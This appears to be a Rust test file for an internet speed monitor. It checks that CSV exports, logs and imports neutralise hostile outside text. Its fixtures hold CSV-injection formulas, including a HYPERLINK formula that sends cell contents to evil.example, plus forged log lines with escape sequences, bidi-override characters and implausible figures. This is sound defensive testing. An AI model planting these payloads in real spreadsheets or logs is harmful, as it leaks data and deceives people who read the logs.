//! Hostile text and figures from outside — server and ISP names, the CLI's message, imported
//! files — never turn into spreadsheet formulas, forged log lines or impossible published
//! figures.

mod common;

use common::{Env, Server};
use serde_json::{Value, json};

/// Cells a spreadsheet would run as formulas (OWASP CSV Injection).
const FORMULAS: [&str; 6] = [
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click for a faster line\")",
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "\t=1+1",
    "\u{FF1D}1+1",
];

fn sample(time: &str, name: &str) -> Value {
    json!({
        "time": time, "outcome": "success", "reason": null, "message": null, "trigger": "schedule",
        "duration_seconds": 20.5, "download_bytes_per_second": 1e6,
        "upload_bytes_per_second": 2e6, "ping_seconds": 0.0125, "jitter_seconds": 0.0005,
        "packet_loss_ratio": 0.015, "download_latency_seconds": null, "upload_latency_seconds": null,
        "downloaded_bytes": 1000, "uploaded_bytes": 500,
        "server": {"id": 7, "name": name, "location": name, "country": "There", "host": "st.example.net"},
        "isp": name, "result_url": null
    })
}

fn hostile_history() -> Vec<Value> {
    FORMULAS
        .iter()
        .enumerate()
        .map(|(minute, name)| sample(&format!("2026-11-01T00:0{minute}:00.000Z"), name))
        .collect()
}

/// Every cell of a CSV document, as a spreadsheet importing RFC 4180 reads them.
fn cells(text: &str) -> Vec<Vec<String>> {
    csv::ReaderBuilder::new()
        .has_headers(false)
        .from_reader(text.as_bytes())
        .records()
        .map(|record| {
            record
                .expect("valid CSV")
                .iter()
                .map(str::to_owned)
                .collect()
        })
        .collect()
}

/// No cell starts like a formula; the hostile names are there (as stored: a tab in a name is
/// a space, `sample::visible`), each behind a single quote.
fn assert_neutralised(csv: &str) {
    let rows = cells(csv);
    assert_eq!(rows.len(), 1 + FORMULAS.len(), "{csv}");
    let header = &rows[0];
    let column = |name: &str| header.iter().position(|h| h == name).unwrap();
    for row in &rows[1..] {
        assert_eq!(row.len(), header.len());
        for name in ["server_name", "server_location", "isp"] {
            let cell = &row[column(name)];
            assert!(
                cell.starts_with('\'')
                    && FORMULAS
                        .iter()
                        .any(|formula| internet_monitor::csv::neutralise(
                            &internet_monitor::sample::visible(formula)
                        ) == *cell),
                "{name}: {cell:?}"
            );
        }
        assert_eq!(
            row[column("download_bytes_per_second")],
            "1000000",
            "numbers stay numbers"
        );
        for cell in row {
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r', '\u{FF1D}']),
                "a formula: {cell:?}"
            );
        }
    }
}

#[test]
fn server_and_isp_names_cannot_become_formulas_in_either_csv() {
    let env = Env::new();
    env.import(&hostile_history());
    let db = env.db();
    let export = common::command(&["export", "--db", db.to_str().unwrap(), "--format", "csv"])
        .output()
        .unwrap();
    assert_eq!(export.status.code(), Some(0));
    assert_neutralised(&String::from_utf8(export.stdout).unwrap());
    let server = Server::start(env.serve("ok-1.2-pretty", "replay", &["--start-delay", "1h"]));
    let response = server.get("/api/v1/samples.csv");
    assert_eq!(response.status, 200);
    assert_neutralised(&response.body);
    // The JSON history is data, not a spreadsheet: it keeps the names exactly.
    let page = server.get("/api/v1/samples").json();
    assert_eq!(page["samples"][0]["isp"], FORMULAS[5]);
}

/// `import FILE` on this test's database.
fn import(env: &Env, lines: &[Value], extra: &[&str]) -> std::process::Output {
    let file = env.path("import.jsonl");
    let text: String = lines.iter().map(|line| format!("{line}\n")).collect();
    std::fs::write(&file, text).unwrap();
    let db = env.db();
    let mut args = vec!["import", "--db", db.to_str().unwrap()];
    args.extend(extra);
    args.push(file.to_str().unwrap());
    common::command(&args).output().unwrap()
}

/// What the database holds, exported; nothing when a failed import left no file.
fn exported(env: &Env) -> String {
    let db = env.db();
    if !db.exists() {
        return String::new();
    }
    let output = common::command(&["export", "--db", db.to_str().unwrap()])
        .output()
        .unwrap();
    assert_eq!(output.status.code(), Some(0));
    String::from_utf8(output.stdout).unwrap()
}

#[test]
fn import_refuses_impossible_figures_with_the_line_and_stores_nothing() {
    let env = Env::new();
    let good = sample("2026-11-01T00:00:00.000Z", "Example ISP");
    let with = |field: &str, value: Value| {
        let mut bad = sample("2026-11-01T00:30:00.000Z", "Example ISP");
        bad[field] = value;
        bad
    };
    for (bad, message) in [
        (
            with("download_bytes_per_second", json!(-1_000_000.0)),
            "download -1000000 B/s is negative",
        ),
        (
            with("upload_bytes_per_second", json!(1e308)),
            "upload 1e308 B/s is above 100000 Mbit/s (12500000000 B/s) (--max-bandwidth)",
        ),
        (
            with("ping_seconds", json!(-500.0)),
            "ping -500 s is negative",
        ),
        (
            with("packet_loss_ratio", json!(7.0)),
            "packet loss ratio 7 is above 1",
        ),
        (
            with("jitter_seconds", json!(3600.0)),
            "jitter 3600 s is above 60 s",
        ),
        (
            {
                let mut bad = with("download_bytes_per_second", Value::Null);
                bad["upload_bytes_per_second"] = Value::Null;
                bad
            },
            "a success without a download or upload figure",
        ),
    ] {
        let output = import(&env, &[good.clone(), bad], &[]);
        let stderr = String::from_utf8_lossy(&output.stderr);
        assert_eq!(output.status.code(), Some(1), "{stderr}");
        assert_eq!(
            stderr.trim_end(),
            format!(
                "internet-monitor: error: nothing was imported: {} line 2: implausible sample: {message}",
                env.path("import.jsonl").display()
            )
        );
        assert_eq!(exported(&env), "", "nothing from the file is stored");
    }
    // The ceiling is --max-bandwidth's, as for a test's result.
    let fast = with("download_bytes_per_second", json!(25e9));
    assert_eq!(
        import(&env, std::slice::from_ref(&fast), &[]).status.code(),
        Some(1)
    );
    let output = import(&env, &[fast], &["--max-bandwidth", "1Tbit/s"]);
    assert_eq!(output.status.code(), Some(0), "{output:?}");
    assert_eq!(exported(&env).lines().count(), 1);
}

/// A CLI error whose message holds a line break followed by a genuine-looking log line, and
/// a terminal escape sequence.
const FORGED: &str = "Cannot open socket\n2026-11-30T04:00:00.000000Z  INFO internet_monitor::daemon::state: \
test succeeded time=2026-11-30T04:00:00.000Z trigger=schedule download_mbit_per_second=1000\u{1b}[2K";

/// Characters that end a line or steer a terminal, in some viewer or other.
const LINE_ENDS: [char; 7] = [
    '\r', '\u{1b}', '\u{85}', '\u{2028}', '\u{2029}', '\u{202e}', '\u{7}',
];

#[test]
fn text_from_outside_cannot_forge_a_log_line() {
    let env = Env::new();
    let fixture = env.path("forged");
    let error = json!({"type": "log", "level": "error", "message": FORGED});
    std::fs::write(fixture.with_extension("stdout"), format!("{error}\n")).unwrap();
    std::fs::write(fixture.with_extension("stderr"), "").unwrap();
    std::fs::write(fixture.with_extension("rc"), "2\n").unwrap();
    // The database's path is logged too, and a file name may hold any byte but / and NUL.
    let db = env.path(&format!("samples{FORGED}.redb"));
    let mut command = common::serve_command(&db, "ok-1.2-pretty", &[]);
    command.env("FAKE_SPEEDTEST_FIXTURE", &fixture);
    let mut server = Server::start(command);
    let listening = server.wait_for_log("listening on");
    assert!(
        listening.contains("samplesCannot open socket\\n2026"),
        "{listening}"
    );
    let failed = server.wait_for_log("test failed");
    assert!(failed.contains("detail=\"Cannot open socket"), "{failed}");
    // A request header is text from outside too: bytes a header may carry (obs-text) decode
    // to the next-line, line-separator and right-to-left-override characters.
    let origin = "http://evil.example\u{85}2026-11-30T04:00:00.000000Z  INFO \
internet_monitor::daemon::state: test succeeded\u{2028}x\u{202e}";
    let response = common::try_request_with(
        &server.address,
        "POST",
        "/api/v1/run",
        &[("Origin", origin), ("Content-Type", "application/json")],
    )
    .unwrap();
    assert_eq!(response.status, 403, "{}", response.body);
    let refused = server.wait_for_log("refused a request");
    assert!(refused.contains("evil.example\\u{85}2026"), "{refused}");
    let log = server.assert_clean_exit();
    // Every line starts where the logger started it: none at the forged time stamp, and no
    // part of a value (the rest of the path, of the message) begins a line of its own.
    let forged: Vec<&String> = log
        .iter()
        .filter(|line| {
            line.starts_with("2026-11-30T04:00:00")
                || !line.starts_with(|c: char| c.is_ascii_digit())
        })
        .collect();
    assert!(forged.is_empty(), "a forged line: {forged:#?}");
    for line in &log {
        assert!(
            !line.contains(LINE_ENDS),
            "a raw control character: {line:?}"
        );
    }
}

/// Issue 11: import stored what no run of the recorder writes — byte counts no test could move,
/// successes without a figure, states the scheduler never produces, a duration of centuries,
/// names of a megabyte — while the CLI path refused or cut them. Now both paths share the rules.
#[test]
fn import_refuses_what_the_recorder_never_writes_with_the_line() {
    let env = Env::new();
    let good = sample("2026-11-01T00:00:00.000Z", "Example ISP");
    let at = "2026-11-01T00:30:00.000Z";
    let with = |changes: &[(&str, Value)]| {
        let mut bad = sample(at, "Example ISP");
        for (field, value) in changes {
            bad[*field] = value.clone();
        }
        bad
    };
    let not_measured = [
        ("duration_seconds", Value::Null),
        ("download_bytes_per_second", Value::Null),
        ("upload_bytes_per_second", Value::Null),
        ("ping_seconds", Value::Null),
        ("jitter_seconds", Value::Null),
        ("packet_loss_ratio", Value::Null),
        ("downloaded_bytes", Value::Null),
        ("uploaded_bytes", Value::Null),
        ("server", Value::Null),
        ("isp", Value::Null),
    ];
    let skipped = |reason: Value| {
        let mut bad = with(&not_measured);
        bad["outcome"] = json!("skipped");
        bad["reason"] = reason;
        bad["message"] = json!("data budget of 1000 GB for this month reached");
        bad
    };
    let failed = |reason: &str| {
        let mut bad = with(&not_measured);
        bad["outcome"] = json!("failure");
        bad["reason"] = json!(reason);
        bad["message"] = json!("exit status 2");
        bad
    };
    let cases = [
        (
            with(&[("downloaded_bytes", json!(18446744073709551615u64))]),
            "implausible sample: downloaded bytes 18446744073709551615 B is above 45000000000000 B (--max-bandwidth × 3600 s)",
        ),
        (
            with(&[("ping_seconds", Value::Null)]),
            "implausible sample: a success without a ping figure",
        ),
        (
            with(&[("upload_bytes_per_second", Value::Null)]),
            "implausible sample: a success without an upload figure",
        ),
        (
            failed("data_budget"),
            "a failed sample cannot have reason data_budget: a run the data budget stopped is skipped, not failed",
        ),
        (
            skipped(json!("exit")),
            "a skipped sample must have reason data_budget, the only reason a run is skipped, not exit",
        ),
        (
            skipped(json!("rate_limited")),
            "a skipped sample must have reason data_budget, the only reason a run is skipped, not rate_limited",
        ),
        (
            {
                let mut bad = skipped(json!("data_budget"));
                bad["download_bytes_per_second"] = json!(1e6);
                bad
            },
            "a skipped sample carries what a run that never started cannot have (download)",
        ),
        (
            {
                let mut bad = failed("timeout");
                bad["ping_seconds"] = json!(0.01);
                bad["uploaded_bytes"] = json!(1000);
                bad
            },
            "a failed sample carries what only a success has (ping)",
        ),
        (
            {
                let mut bad = failed("exit");
                bad["server"] =
                    json!({"id": 7, "name": "n", "location": "l", "country": "c", "host": "h"});
                bad["isp"] = json!("Example ISP");
                bad
            },
            "a failed sample carries what only a success has (server, ISP)",
        ),
        (
            with(&[("message", json!("x"))]),
            "a successful sample must not have a message: the message says why a run failed",
        ),
        (
            {
                let mut bad = skipped(json!("data_budget"));
                bad["trigger"] = json!("manual");
                bad
            },
            "a skipped sample must be scheduled (trigger schedule or retest): a manual run is never skipped for the data budget",
        ),
        (
            with(&[("duration_seconds", json!(1e300))]),
            "implausible sample: duration 1e300 s is above 86400 s",
        ),
        (
            with(&[("duration_seconds", json!(-1.0))]),
            "implausible sample: duration -1 s is negative",
        ),
        (
            with(&[("isp", json!("I".repeat(1_200_000)))]),
            "implausible sample: isp of 1200000 bytes is longer than 256 bytes",
        ),
        (
            with(&[(
                "server",
                json!({"id": 7, "name": "n", "location": "l".repeat(257), "country": "c", "host": "h"}),
            )]),
            "implausible sample: server location of 257 bytes is longer than 256 bytes",
        ),
        (
            with(&[("result_url", json!("u".repeat(2049)))]),
            "implausible sample: result url of 2049 bytes is longer than 2048 bytes",
        ),
        (
            {
                let mut bad = failed("exit");
                bad["message"] = json!("m".repeat(1025));
                bad
            },
            "implausible sample: message of 1025 bytes is longer than 1024 bytes",
        ),
    ];
    for (bad, message) in cases {
        let output = import(&env, &[good.clone(), bad], &[]);
        let stderr = String::from_utf8_lossy(&output.stderr);
        assert_eq!(output.status.code(), Some(1), "{stderr}");
        assert_eq!(
            stderr.trim_end(),
            format!(
                "internet-monitor: error: nothing was imported: {} line 2: {message}",
                env.path("import.jsonl").display()
            )
        );
        assert_eq!(exported(&env), "", "nothing from the file is stored");
    }
    // What the recorder does write imports: a skipped run, a timed-out failure that lasted,
    // a message at the limit, names at theirs.
    let mut fine = vec![good.clone(), skipped(json!("data_budget"))];
    fine[1]["time"] = json!("2026-11-01T00:10:00.000Z");
    let mut timeout = failed("timeout");
    timeout["time"] = json!("2026-11-01T00:20:00.000Z");
    timeout["duration_seconds"] = json!(120.0);
    timeout["message"] = json!("m".repeat(1024));
    fine.push(timeout);
    let mut long = sample("2026-11-01T00:40:00.000Z", &"é".repeat(128));
    long["result_url"] = json!("u".repeat(2048));
    fine.push(long);
    let output = import(&env, &fine, &[]);
    assert_eq!(output.status.code(), Some(0), "{output:?}");
    assert_eq!(exported(&env).lines().count(), 4);
}

/// The CLI's result of a clean run (`ok-1.2-no-packet-loss`), to make hostile by hand.
fn clean_result() -> Value {
    let path = format!(
        "{}/tests/fixtures/ok-1.2-no-packet-loss.stdout",
        env!("CARGO_MANIFEST_DIR")
    );
    serde_json::from_str(std::fs::read_to_string(path).unwrap().trim()).unwrap()
}

/// Characters that change how the text around them is shown: a right-to-left override makes
/// "ISP Telekom" read backwards, isolates reorder the line of a page or report around them, a
/// line or paragraph separator starts a new line in editors and viewers that honour it, and a
/// zero-width space or byte-order mark hides inside a name.
const BIDI: [char; 8] = [
    '\u{202e}', '\u{2066}', '\u{200f}', '\u{061c}', '\u{2028}', '\u{2029}', '\u{200b}', '\u{feff}',
];

#[test]
fn bidirectional_overrides_from_the_cli_or_a_file_are_never_stored() {
    let env = Env::new();
    let hostile = |text: &str| {
        format!(
            "{text}\u{202e}moc.lanretxe\u{2066}x\u{200f}y\u{061c}z\u{2028}a\u{2029}b\u{200b}c\u{feff}d"
        )
    };
    // The Ookla CLI's path: its result names the ISP and the server.
    let fixture = env.path("bidi");
    let mut result = clean_result();
    result["isp"] = json!(hostile("Globe"));
    result["server"]["name"] = json!(hostile("Globe"));
    result["interface"]["internalIp"] = json!(hostile("10.0.0.2"));
    result["interface"]["macAddr"] = json!(hostile("AA:BB"));
    std::fs::write(fixture.with_extension("stdout"), format!("{result}\n")).unwrap();
    std::fs::write(fixture.with_extension("stderr"), "").unwrap();
    std::fs::write(fixture.with_extension("rc"), "0\n").unwrap();
    let db = env.db();
    let mut run = common::with_fake("run-once", &db, "ok-1.2-pretty", &["--store-ip"]);
    run.env("FAKE_SPEEDTEST_FIXTURE", &fixture);
    let output = run.output().unwrap();
    assert_eq!(output.status.code(), Some(0), "{output:?}");
    // The file path: an imported line says the same.
    let mut line = sample("2026-11-01T00:00:00.000Z", &hostile("Example"));
    line["result_url"] = json!(format!("https://example.net/{}", hostile("r")));
    // The HTTP engine's URL and the client's addresses are text from the file too.
    line["engine"] = json!({"name": "http", "protocol": "cloudflare",
        "url": format!("https://example.net/{}", hostile("e")), "streams": 4,
        "duration_seconds": 10.0, "ramp_up_seconds": 1.0});
    line["client"] = json!({"internal_ip": hostile("10.0.0.1"),
        "external_ip": hostile("192.0.2.1"), "mac": hostile("AA:BB")});
    assert_eq!(import(&env, &[line], &[]).status.code(), Some(0));

    let stored = exported(&env);
    let samples: Vec<Value> = stored
        .lines()
        .map(|line| serde_json::from_str(line).unwrap())
        .collect();
    assert_eq!(samples.len(), 2, "{stored}");
    for sample in &samples {
        for text in [
            &sample["isp"],
            &sample["server"]["name"],
            &sample["server"]["location"],
            &sample["result_url"],
            &sample["engine"]["url"],
            &sample["client"]["internal_ip"],
            &sample["client"]["external_ip"],
            &sample["client"]["mac"],
        ] {
            let text = text.as_str().unwrap_or_default();
            assert!(!text.contains(BIDI), "stored as it came: {text:?}");
        }
    }
    assert_eq!(
        samples[0]["engine"]["url"],
        json!("https://example.net/e moc.lanretxe x y z a b c d")
    );
    assert_eq!(
        samples[0]["client"]["mac"],
        json!("AA:BB moc.lanretxe x y z a b c d")
    );
    assert_eq!(
        samples[1]["client"]["internal_ip"],
        json!("10.0.0.2 moc.lanretxe x y z a b c d")
    );
    assert_eq!(samples[1]["isp"], json!("Globe moc.lanretxe x y z a b c d"));
    assert_eq!(
        samples[0]["isp"],
        json!("Example moc.lanretxe x y z a b c d")
    );
}

/// A server name from outside cannot forge a field of the run's line either: in the text log
/// it is quoted (as the CLI's message in `detail` is), so `download_mbit_s=99999` inside it is
/// part of the name, not a figure a log parser reads.
#[test]
fn a_server_name_cannot_forge_a_field_of_the_run_line() {
    let env = Env::new();
    let fixture = env.path("forged-field");
    let mut result = clean_result();
    result["server"]["name"] = json!("Evil download_mbit_s=99999 ping_ms=0.1");
    std::fs::write(fixture.with_extension("stdout"), format!("{result}\n")).unwrap();
    std::fs::write(fixture.with_extension("stderr"), "").unwrap();
    std::fs::write(fixture.with_extension("rc"), "0\n").unwrap();
    let mut command = common::serve_command(&env.db(), "ok-1.2-pretty", &[]);
    command.env("FAKE_SPEEDTEST_FIXTURE", &fixture);
    let mut server = Server::start(command);
    let line = server.wait_for_log("test succeeded");
    assert!(
        line.contains(" server=\"Evil download_mbit_s=99999 ping_ms=0.1"),
        "{line}"
    );
    assert!(
        line.ends_with(" (Makati) #1169\""),
        "the name's quotes close it: {line}"
    );
    server.assert_clean_exit();
}
